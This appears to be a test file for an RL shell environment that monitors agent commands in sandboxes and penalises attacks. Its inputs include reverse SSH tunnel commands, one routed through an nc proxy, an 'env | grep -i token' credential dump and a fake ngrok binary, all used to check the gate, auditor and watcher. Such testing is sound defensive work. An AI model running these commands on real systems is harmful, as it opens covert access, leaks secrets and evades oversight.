"""``ShellEnv`` against real sandboxes: the gymnasium API, rewards, and attacks ending
episodes with a penalty, whether the gate refuses them or the watcher catches them."""

from __future__ import annotations

import shutil
from pathlib import Path

import gymnasium
import pytest
from gymnasium.error import ResetNeeded
from gymnasium.utils.env_checker import check_env

from corral.ledger import Ledger
from corral.rl import ENV_ID, EpisodeOver, ShellEnv
from corral.sandbox import Result
from corral.watch.watcher import Watcher

from ..egress.servers import SSHServer
from ..watching import policy

TUNNEL = "ssh -N -R 9999:127.0.0.1:22 agent@127.0.0.2"


def exited_cleanly(result: Result, env: ShellEnv) -> float:
    return 1.0 if result.exit_code == 0 else 0.0


@pytest.fixture
def template(tmp_path: Path) -> Path:
    ws = tmp_path / "template"
    ws.mkdir()
    (ws / "README").write_text("fix the bug\n")
    return ws


def test_the_environment_passes_gymnasiums_checker(ledger: Ledger, watcher: Watcher) -> None:
    with ShellEnv(task="list the files", ledger=ledger, watch=watcher) as env:
        check_env(env.unwrapped)
        obs, _ = env.reset()
        assert obs == "list the files" and obs in env.observation_space


def test_gymnasium_make_builds_it_by_id(ledger: Ledger, watcher: Watcher) -> None:
    env = gymnasium.make(ENV_ID, task="say hi", ledger=ledger, watch=watcher, max_steps=4)
    try:
        assert isinstance(env.unwrapped, ShellEnv)
        assert env.reset(seed=1)[0] == "say hi"
        obs, reward, terminated, truncated, info = env.step("echo hi")
        assert obs == "hi\n[exit code 0]"
        assert (reward, terminated, truncated, info["exit_code"]) == (0.0, False, False, 0)
    finally:
        env.close()


def test_a_benign_episode_is_rewarded_by_the_hook_and_truncated_at_max_steps(
    template: Path, ledger: Ledger, watcher: Watcher
) -> None:
    with ShellEnv(
        task="look around",
        workspace=template,
        reward_fn=exited_cleanly,
        max_steps=3,
        ledger=ledger,
        watch=watcher,
    ) as env:
        obs, info = env.reset()
        assert obs == "look around" and info["episode"] == 1
        steps = [env.step(c) for c in ("echo hi", "ls", "cat README")]
        assert [s[0] for s in steps] == [
            "hi\n[exit code 0]",
            "README\n[exit code 0]",
            "fix the bug\n[exit code 0]",
        ]
        assert [s[1] for s in steps] == [1.0, 1.0, 1.0]
        assert [(s[2], s[3]) for s in steps] == [(False, False), (False, False), (False, True)]
        for n, (_, _, _, _, info) in enumerate(steps, 1):
            assert info["step"] == n and info["alerts"] == [] and info["terminated_by"] is None
            assert info["decision"]["decision"] == "allow" and info["action_id"]
        with pytest.raises(EpisodeOver, match=r"truncated.*call reset\(\)"):
            env.step("echo more")
    records = ledger.records(kinds="exec")
    assert [(r.episode, r.step) for r in records] == [(1, 1), (1, 2), (1, 3)]


def test_a_refusal_for_the_policys_own_reasons_is_not_an_attack(
    ledger: Ledger, watcher: Watcher
) -> None:
    with ShellEnv(reward_fn=exited_cleanly, ledger=ledger, watch=watcher) as env:
        env.reset()
        obs, reward, terminated, _, info = env.step("python3 -c 'print(1)'")
    assert "not on the policy's allowlist" in obs and obs.endswith("[exit code 126]")
    assert (reward, terminated, info["alerts"]) == (0.0, False, [])
    assert info["decision"]["decision"] == "deny"


def test_a_tunnel_the_gate_refuses_ends_the_episode_with_the_penalty(
    ledger: Ledger, watcher: Watcher
) -> None:
    with ShellEnv(
        task="fix the bug", reward_fn=exited_cleanly, penalty=-10.0, ledger=ledger, watch=watcher
    ) as env:
        env.reset()
        assert env.step("echo before")[1] == 1.0
        obs, reward, terminated, truncated, info = env.step(TUNNEL)
        assert "corral: deny: ssh port forwarding" in obs
        assert (reward, terminated, truncated) == (-10.0, True, False)
        assert info["alerts"] == [
            {
                "detector": "tunnel-ssh-forward",
                "category": "tunnel",
                "severity": "high",
                "response": info["alerts"][0]["response"],
                "action_id": info["action_id"],
                "layer": "gate",
            }
        ]
        assert info["decision"]["rule"] == "tunnel-ssh-forward"
        assert "tunnel" in info["terminated_by"]
    over = [r.body for r in ledger.records(kinds="note") if r.body.get("event") == "episode over"]
    assert over == [
        {
            "event": "episode over",
            "terminated": True,
            "truncated": False,
            "reason": over[0]["reason"],
            "steps": 2,
            "return": -9.0,
            "penalty": -10.0,
        }
    ]


def test_a_threat_the_auditor_refuses_counts_as_the_gates_would(
    ledger: Ledger, watcher: Watcher
) -> None:
    # rl-rollout's rules auditor refuses what the gate lets through but the task does
    # not need: dumping the environment, where tokens live.
    with ShellEnv(task="fix the failing unit test", ledger=ledger, watch=watcher) as env:
        env.reset()
        obs, reward, terminated, _, info = env.step("env | grep -i token")
    assert obs.endswith("[exit code 126]") and (reward, terminated) == (-1.0, True)
    assert info["decision"]["decision"] == "allow" and info["audit"]["verdict"] != "allow"
    assert [(a["layer"], a["detector"], a["category"]) for a in info["alerts"]] == [
        ("audit", "audit:rules", "credential-access")
    ]


def test_a_refused_threat_can_be_reported_without_ending_the_episode(
    ledger: Ledger, watcher: Watcher
) -> None:
    with ShellEnv(terminate_on_denied_threat=False, ledger=ledger, watch=watcher) as env:
        env.reset()
        _, reward, terminated, _, info = env.step(TUNNEL)
        assert (reward, terminated) == (0.0, False)
        assert [a["detector"] for a in info["alerts"]] == ["tunnel-ssh-forward"]
        assert env.step("echo still here")[0] == "still here\n[exit code 0]"


def test_a_reverse_tunnel_with_openssh_the_watcher_kills_ends_the_episode(
    template: Path, ledger: Ledger, watcher: Watcher, sshd_server: SSHServer
) -> None:
    key = template / "key"
    shutil.copy(sshd_server.client_key, key)
    key.chmod(0o600)
    # The tunnel would work: the gate is off and the proxy allows this sshd. The watcher
    # is what stops it, and its alert (high) is what ends the episode.
    p = policy(f"{sshd_server.host}:{sshd_server.port}")
    with ShellEnv(
        p,
        task="fix the bug",
        workspace=template,
        reward_fn=exited_cleanly,
        terminate_on={"high", "critical"},
        gate=False,
        ledger=ledger,
        watch=watcher,
    ) as env:
        env.reset()
        assert env.step("echo before")[:3] == ("before\n[exit code 0]", 1.0, False)
        _, reward, terminated, _, info = env.step(
            f"ssh -i key -p {sshd_server.port} -o BatchMode=yes -o StrictHostKeyChecking=no"
            " -o UserKnownHostsFile=/dev/null -o ProxyCommand='nc -X 5 -x 127.0.0.1:1080 %h %p'"
            f" -N -R 9999:127.0.0.1:22 {sshd_server.user}@{sshd_server.host}"
        )
        assert info["decision"] is None and info["exit_code"] != 0 and not info["timed_out"]
        assert (reward, terminated) == (-1.0, True)
        tunnel = [a for a in info["alerts"] if a["detector"] == "tunnel-ssh-forward"]
        assert tunnel and tunnel[0]["layer"] == "watch" and tunnel[0]["severity"] == "high"
        assert tunnel[0]["action_id"] == info["action_id"]
        assert "high alert tunnel-ssh-forward" in info["terminated_by"]


def test_a_policy_that_ends_the_episode_on_a_detector_terminates_it(
    template: Path, ledger: Ledger, watcher: Watcher
) -> None:
    shutil.copy("/bin/sleep", template / "ngrok")  # a binary by that name: what is run
    p = policy(detectors={"tunnel-tool": {"response": "end-episode"}})
    with ShellEnv(p, workspace=template, gate=False, ledger=ledger, watch=watcher) as env:
        env.reset()
        _, reward, terminated, _, info = env.step("./ngrok 30")
        assert (reward, terminated, info["episode_ended"]) == (-1.0, True, True)
        assert [a["detector"] for a in info["alerts"]] == ["tunnel-tool"]
        assert info["terminated_by"].startswith("the policy ended the episode")


def test_a_sandbox_the_policy_kills_terminates_the_episode(
    template: Path, ledger: Ledger, watcher: Watcher
) -> None:
    shutil.copy("/bin/sleep", template / "ngrok")
    p = policy(detectors={"tunnel-tool": {"response": "kill-sandbox"}})
    with ShellEnv(p, workspace=template, gate=False, ledger=ledger, watch=watcher) as env:
        env.reset()
        obs, reward, terminated, _, info = env.step("./ngrok 30")
        assert "corral: the sandbox was stopped" in obs
        assert (reward, terminated, info["episode_ended"]) == (-1.0, True, False)
        assert info["stopped"] and "the sandbox was stopped" in info["terminated_by"]
        assert [a["detector"] for a in info["alerts"]] == ["tunnel-tool"]
        with pytest.raises(EpisodeOver):
            env.step("echo after")


def test_step_after_termination_raises_until_reset(
    template: Path, ledger: Ledger, watcher: Watcher
) -> None:
    with ShellEnv(workspace=template, ledger=ledger, watch=watcher) as env:
        with pytest.raises(ResetNeeded, match=r"reset\(\)"):
            env.step("echo too early")
        env.reset()
        first = env.sandbox
        assert first is not None and env.workspace is not None
        workspace = env.workspace
        env.step("echo scribble > note")
        assert env.step(TUNNEL)[2] is True
        with pytest.raises(EpisodeOver, match=r"terminated.*call reset\(\)"):
            env.step("echo again")
        obs, info = env.reset(options={"task": "second try"})
        # The previous sandbox and its workspace are gone; the template is untouched.
        assert first.id == "" and not workspace.exists()
        assert obs == "second try" and info["episode"] == 2
        assert env.step("ls")[0] == "README\n[exit code 0]"
    assert env.sandbox is None and not (template / "note").exists()
    assert list(ledger.records(kinds="exec"))[-1].episode == 2


def test_a_long_output_is_cut_in_the_middle_and_stays_in_the_space(
    ledger: Ledger, watcher: Watcher
) -> None:
    with ShellEnv(observation_length=200, ledger=ledger, watch=watcher) as env:
        env.reset()
        obs, *_ = env.step("seq 1 5000; printf '\\001\\033[0m caf\\303\\251\\n'")
    assert len(obs) <= 200 and obs in env.observation_space
    assert obs.startswith("1\n2\n3\n") and "characters cut" in obs
    assert obs.endswith("\\x01\\x1b[0m caf\\xe9\n[exit code 0]")
